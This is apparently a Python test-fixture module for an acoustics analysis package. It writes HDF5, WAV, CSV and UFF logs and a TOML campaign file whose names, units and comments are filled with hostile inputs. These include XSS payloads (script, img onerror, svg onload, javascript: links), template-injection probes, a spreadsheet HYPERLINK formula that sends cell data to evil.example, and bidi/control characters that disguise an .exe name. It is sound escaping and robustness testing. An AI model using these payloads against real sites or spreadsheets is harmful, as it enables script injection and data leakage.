"""A campaign and logs whose every word tries something: markup, scripts, formulas, controls, writing of any script."""

import json
import struct
from pathlib import Path

import h5py
import numpy as np
import soundfile
from plain_fleets import plain_fleet
from small_campaigns import RATE_HZ, signal

from tdacoustic.fleet import fleet_toml, load_fleet

SCRIPT = "</script><script>window.PWNED=1</script>"
IMAGE = "<img src=x onerror=window.PWNED=1>"
ATTRIBUTE = '" onmouseover="window.PWNED=1" x="\' onfocus=window.PWNED=1 autofocus'
SVG = "<svg/onload=window.PWNED=1>&lt;b&gt;${window.PWNED=1}{{7*7}}%{x}$\\alpha$"
LINK = '<a href="javascript:window.PWNED=1">x</a>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CONTROL = "a\x1b[31mb\x07\u202egpj.exe\u2066\x00c\r\nd"
LONG = "Lang<b>" * 1500
CHINESE = "株洲 噪声测点一号"
CYRILLIC = "Электровоз «Ёлка» \\n"
RIGHT_TO_LEFT = "קטר 12 (צפון) قاطرة"
EMOJI = "\U0001f600\U0001f682 ]]> `'\""
UNBROKEN = "Getriebegehaeuse" * 13
NAMES = ("Ось 1 噪声测点 מיקרופון", "قاطرة כן Шум", UNBROKEN[:60])
"""What a run may be called: letters of any script, at most 64 of them."""
WRITINGS = (CHINESE, CYRILLIC, RIGHT_TO_LEFT, EMOJI, UNBROKEN)
EVERY = (SCRIPT, IMAGE, ATTRIBUTE, SVG, LINK, FORMULA, "@SUM(A1)", CONTROL, LONG)


def toml(text: str) -> str:
    """A TOML basic string; JSON's spelling is one, but for the halves of surrogate pairs."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def write_hdf5(path: Path, seed: int) -> None:
    with h5py.File(path, "w") as file:
        for name in ("title", "description", "comment", "start_time"):
            file.attrs[name] = SCRIPT + IMAGE + CONTROL.replace("\0", "") + LONG
        for number, (name, rms, tone) in enumerate(((f"{IMAGE.replace('/', '')}", 0.2, 200.0), ("motor", 2.0, 320.0))):
            dataset = file.create_dataset(name, data=signal(seed + number, 2.0, tone, rms).astype("f4"))
            dataset.attrs["sample_rate_hz"] = RATE_HZ
            dataset.attrs["unit"] = "Pa" if number == 0 else "m/s^2"
            dataset.attrs["quantity"] = SCRIPT
        for number, text in enumerate(EVERY):
            name = text.replace("/", "\u2215").replace("\0", "")[:2000]
            dataset = file.create_dataset(f"{number}{name}", data=np.zeros(8192, "f4"))
            dataset.attrs["sample_rate_hz"] = RATE_HZ
            dataset.attrs["unit"] = text.replace("\0", "")
        file[f"link {SCRIPT.replace('/', '')}"] = h5py.SoftLink("/nowhere")


def write_wav(path: Path) -> None:
    """A WAV of two channels with a broadcast chunk, a list chunk and names and units in a vendor chunk."""
    values = np.stack([signal(1, 2.0, 250.0, 0.1), signal(2, 2.0, 300.0, 0.1)], axis=1)
    soundfile.write(path, values, int(RATE_HZ), subtype="PCM_16")
    blob = path.read_bytes()
    entries = b""
    for index, (name, unit) in enumerate(((IMAGE, "Pa"), (FORMULA + CONTROL, ATTRIBUTE))):
        raw, spelling = name.replace("\0", "").encode(), unit.encode()
        inner = struct.pack("<fH", 1.0, len(raw)) + raw + struct.pack("<H", len(spelling)) + spelling
        inner += struct.pack("<If", 0, 1.0)
        entries += b"le%02d" % index + struct.pack("<I", len(inner)) + inner
    bext = (SCRIPT + IMAGE).encode().ljust(256, b"\0") + bytes(346)
    info = b"INFOINAM" + struct.pack("<I", len(SCRIPT)) + SCRIPT.encode() + b"\0" * (len(SCRIPT) % 2)
    extra = b"".join(
        tag + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)
        for tag, body in ((b"LEA ", entries), (b"bext", bext), (b"LIST", info))
    )
    body = blob[8:12] + extra + blob[12:]
    path.write_bytes(b"RIFF" + struct.pack("<I", len(body)) + body)


def write_csv(path: Path) -> None:
    values = signal(3, 2.0, 200.0, 0.2)
    heading = f"Project: {SCRIPT}\nComment: {FORMULA}\nStart time: {IMAGE}\nSample rate: {RATE_HZ:.0f} Hz\n"
    quoted = [text.replace('"', '""').replace("\0", "").replace("\r\n", " ") for text in (IMAGE, FORMULA, CONTROL)]
    heading += "mic [Pa];" + ";".join(f'"{text} [{SVG}]"' for text in quoted) + "\n"
    path.write_text(heading + "".join(f"{v:.6f};1;2;3\n" for v in values), encoding="utf-8", newline="")


def write_uff(path: Path) -> None:
    values = signal(4, 2.0, 200.0, 0.2)
    lines = [SCRIPT[:80], IMAGE[:80], IMAGE[:80], FORMULA[:80], ATTRIBUTE[:80]]
    lines.append(f"{1:5d}{0:10d}{0:5d}{0:10d} {IMAGE[:10]:<10}{1:10d}{0:4d} {'NONE':<10}{0:10d}{0:4d}")
    lines.append(f"{2:10d}{len(values):10d}{1:10d}{0.0:13.5e}{1 / RATE_HZ:13.5e}{0.0:13.5e}")
    lines.append(f"{17:10d}{0:5d}{0:5d}{0:5d} {'Time':<20} {'s':<20}")
    lines.append(f"{12:10d}{0:5d}{0:5d}{0:5d} {IMAGE[:20]:<20} {'Pa':<20}")
    lines += [f"{0:10d}{0:5d}{0:5d}{0:5d} {'NONE':<20} {'NONE':<20}"] * 2
    rows = [values[at : at + 6] for at in range(0, len(values), 6)]
    text = "    -1\n    58\n" + "\n".join(lines) + "\n"
    path.write_text(text + "".join("".join(f"{v:13.5e}" for v in row) + "\n" for row in rows) + "    -1\n")


def hostile_logs(folder: Path) -> list[Path]:
    """Five logs, one of them under a name that is markup."""
    folder.mkdir(parents=True, exist_ok=True)
    strange = f"{IMAGE}{FORMULA.replace('/', '')} a.h5"
    write_hdf5(folder / "a.h5", 0)
    write_hdf5(folder / strange, 5)
    write_wav(folder / "b.wav")
    write_csv(folder / "c.csv")
    write_uff(folder / "d.uff")
    return [folder / name for name in ("a.h5", strange, "b.wav", "c.csv", "d.uff")]


def hostile_campaign(folder: Path) -> Path:
    """A campaign of these logs that can be analysed, fitted and predicted; returns its file."""
    logs = hostile_logs(folder)
    few = {"operation.train_speed_km_h": (30.0, 60.0), "operation.helix_angle_deg": (4.0,)}
    fleet = load_fleet(plain_fleet("reference-drive")).replaced(few, origin=f"{SCRIPT}{FORMULA}")
    text = fleet_toml(fleet)
    name = next(line for line in text.splitlines() if line.startswith("name = "))
    (folder / "fleet.toml").write_text(text.replace(name, f"name = {toml(SCRIPT + IMAGE)}", 1), encoding="utf-8")
    microphone = IMAGE.replace("/", "")
    words = [
        'schema = "tdacoustic-campaign/1"', f"name = {toml(SCRIPT + IMAGE)}", 'origin = "measured"',
        'fleet = "fleet.toml"', "[meta]",
        *(f"{toml(text[:300])} = {toml(text[:3000])}" for text in (*EVERY, *WRITINGS) if text != CONTROL),
        "[[channel]]", 'name = "mic"', f"source = {toml(microphone)}", 'component = "air"', 'role = "receiver"',
        'quantity = "sound_pressure"', "distance_m = 4.0", f"side = {toml(ATTRIBUTE)}", f"direction = {toml(SVG)}",
        "[[channel]]", 'name = "motor"', 'component = "motor"', 'quantity = "acceleration"',
        f"direction = {toml(IMAGE)}", "[[channel]]", 'name = "dead"', 'component = "motor"',
        f"source = {toml('5' + FORMULA.replace('/', chr(0x2215)))}", 'quantity = "acceleration"', 'unit = "m/s^2"',
    ]  # fmt: skip
    speeds = (30.0, 60.0)
    for condition, log, speed in zip(("a", "b"), logs[:2], speeds, strict=True):
        words += ["[[run]]", f"condition = {toml(condition)}", f"logs = [{toml(log.name)}]",
                  f"train_speed_km_h = {speed}", f"direction = {toml(IMAGE)}"]  # fmt: skip
    for number, log in enumerate(logs[2:]):
        words += [
            "[[run]]",
            f"name = {toml(f'{number} {NAMES[number]}')}",
            f'condition = "c{number}"',
            f"logs = [{toml(log.name)}]",
            "train_speed_km_h = 40.0",
        ]
    gone = f"gone{IMAGE.replace('/', '')}.h5"
    words += ["[[run]]", 'condition = "a"', f"logs = [{toml(gone)}]", "valid = false",
              f"reject_reason = {toml(FORMULA + SCRIPT + LONG)}", "train_speed_km_h = 30.0"]  # fmt: skip
    words += ["[[exclude]]", 'condition = "a"', "frequency_hz = [800, 900]", f"reason = {toml(FORMULA + IMAGE)}"]
    words += ["[[override]]", 'condition = "a"', "frequency_hz = 200.0", 'source = "motor"',
              f"reason = {toml('@SUM(1;2)' + SCRIPT)}"]  # fmt: skip
    words += ["[[level]]", 'condition = "z"', "distance_m = 4.0", "level_db = 80.0", "sigma_db = 1.0",
              f"origin = {toml(FORMULA + SVG)}"]  # fmt: skip
    path = folder / "campaign.toml"
    path.write_text("\n".join(words) + "\n", encoding="utf-8")
    return path
